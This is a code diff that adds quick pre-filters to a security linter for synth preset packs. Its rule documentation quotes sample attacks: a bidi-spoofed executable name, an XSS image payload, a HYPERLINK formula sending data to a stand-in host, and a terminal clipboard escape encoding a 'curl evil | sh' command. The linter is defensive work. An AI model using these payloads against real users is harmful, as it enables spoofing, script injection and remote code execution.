@@ -44,6 +44,8 @@ _NON_ASCII = re.compile("[^\x00-\x7f]")
 _WORD = re.compile(r"\w+")
 _CONFUSABLE_SCRIPTS = frozenset({"LATIN", "CYRILLIC", "GREEK", "ARMENIAN", "CHEROKEE", "COPTIC"})
 _HUMAN = ("value", "filename", "entry", "key")
+_FORMULA_START = ("=", "+", "-", "@")
+_MARKUP_WORDS = ("<", "script:", "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart")
 
 
 def _names(chars: list[str]) -> str:
@@ -58,6 +60,38 @@ def _what(t: Text) -> str:
 def _owners(scan: Scan, pattern: re.Pattern[str]) -> Iterator[Text]:
     """Texts of the file itself (not decoded payloads) with at least one match."""
     return scan.joined(decoded=False).owners_of(pattern)
+
+
+# Pre-filters: str.isascii() is O(1) in CPython, so an ASCII text is cleared without a scan for
+# what only non-ASCII characters (bidi controls, C1 controls, other scripts) can be.
+def _own_text(scan: Scan) -> str:
+    return scan.joined(decoded=False).text
+
+
+def _may_bidi(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
+    text = _own_text(scan)
+    return not text.isascii() and _BIDI.search(text) is not None
+
+
+def _may_invisible(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
+    return _INVISIBLE.search(_own_text(scan)) is not None
+
+
+def _may_homoglyph(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
+    return not _own_text(scan).isascii()
+
+
+def _may_escape(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
+    text = _own_text(scan)
+    return "\x1b" in text or (not text.isascii() and _ACTIVE.search(text) is not None)
+
+
+def _may_markup(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
+    return scan.joined(decoded=False).mentions(*_MARKUP_WORDS)
+
+
+def _may_formula(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
+    return any(t.text.lstrip()[:1] in _FORMULA_START for t in scan.texts() if t.role in _HUMAN and t.text)
 
 
 def check_bidi(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
@@ -140,8 +174,7 @@ def _escape_kind(text: str, i: int) -> str:
 
 def check_markup(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
     joined = scan.joined(decoded=False)
-    if not joined.mentions("<", "script:", "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle",
-                           "onanimationstart"):
+    if not joined.mentions(*_MARKUP_WORDS):
         return
     for t in joined.owners_of(_MARKUP):
         m = _MARKUP.search(t.text)
@@ -153,7 +186,7 @@ def check_markup(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violat
 
 def check_formula(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
     for t in scan.texts():
-        if t.role not in _HUMAN or not t.text or t.text.lstrip()[:1] not in ("=", "+", "-", "@"):
+        if t.role not in _HUMAN or not t.text or t.text.lstrip()[:1] not in _FORMULA_START:
             continue
         if _FORMULA.match(t.text):
             yield Violation(f"{_what(t)} {excerpt(t.text)} is a spreadsheet formula: opening an export of the pack "
@@ -167,7 +200,7 @@ RULES = (
                           "They reorder what is displayed: `Bass\\u202Egpj.exe` shows as `Bassexe.jpg`. Used to disguise "
                           "executables and to make reviewers read something other than what the software sees.",
                           '`"preset_name": "Pad \\u202egnp.exe"`', "Remove the control characters."),
-                  check_bidi),
+                  check_bidi, quick=_may_bidi),
     security_rule("X061", "invisible-character", LOW, "Invisible or control characters in text",
                   RuleDoc("Reports zero-width characters, soft hyphens, Hangul fillers, tag characters, bidi marks, a "
                           "byte order mark inside text, C0 control characters other than tab and line breaks, and a "
@@ -176,14 +209,14 @@ RULES = (
                           "Two names that look identical can differ by an invisible character: duplicate names, "
                           "spoofed authors, and search or sort behaving oddly.",
                           '`"name": "Lead\\u200b"`', "Remove the invisible characters."),
-                  check_invisible),
+                  check_invisible, quick=_may_invisible),
     security_rule("X062", "homoglyph-name", LOW, "A word mixes letters of different scripts",
                   RuleDoc("Reports words that mix Latin, Cyrillic, Greek, Armenian, Cherokee or Coptic letters, the "
                           "scripts whose letters look alike.",
                           "`Bаss` with a Cyrillic `а` looks like `Bass` but is a different name: used to impersonate "
                           "authors and packs, and to slip past block lists.",
                           '`"author": "Аlice"` (Cyrillic A)', "Write the word in one script."),
-                  check_homoglyph),
+                  check_homoglyph, quick=_may_homoglyph),
     security_rule("X063", "terminal-escape", HIGH, "Terminal escape sequences or C1 controls in text",
                   RuleDoc("Reports escape sequences a terminal acts on, in any text, the file name and archive member "
                           "names: CSI (`ESC [`: cursor, colour, erase), OSC (`ESC ]`: OSC 8 hyperlinks, OSC 52 "
@@ -196,7 +229,7 @@ RULES = (
                           "plant links, or write the clipboard (so the next paste runs a command).",
                           '`"preset_name": "Pad\\u001b]52;c;Y3VybCBldmlsIHwgc2gK\\u0007"`',
                           "Remove the control characters."),
-                  check_escape),
+                  check_escape, quick=_may_escape),
     security_rule("X064", "html-markup", LOW, "HTML or script markup in text",
                   RuleDoc("Reports `<script>`, `<iframe>`, `<img ... onerror=`, `javascript:` and similar markup in "
                           "names, comments and other texts." " Not on plain documentation (a README, LICENSE or `.md`/`.txt` file in no preset format), where "
@@ -204,7 +237,7 @@ RULES = (
                           "Harmless to the synth, but preset browsers, shop pages, forums and HTML reports that show "
                           "the text unescaped run it (stored XSS).",
                           '`"comments": "<img src=x onerror=alert(1)>"`', "Remove the markup."),
-                  check_markup, on_docs=False),
+                  check_markup, on_docs=False, quick=_may_markup),
     security_rule("X065", "spreadsheet-formula", LOW, "Text is a spreadsheet formula (CSV injection)",
                   RuleDoc("Reports texts that start with `=`, `+`, `-` or `@` followed by a function call or a DDE "
                           "link (`=HYPERLINK(...)`, `@SUM(...)`, `-cmd|...`)." " Not on plain documentation (a README, LICENSE or `.md`/`.txt` file in no preset format), where "
@@ -213,5 +246,5 @@ RULES = (
                           "(data exfiltration via HYPERLINK/WEBSERVICE, commands via DDE).",
                           '`"preset_name": "=HYPERLINK(\\"http://x/?\\"&A1,\\"Pad\\")"`',
                           "Rename the preset so it does not start with a formula character."),
-                  check_formula, on_docs=False),
+                  check_formula, on_docs=False, quick=_may_formula),
 )
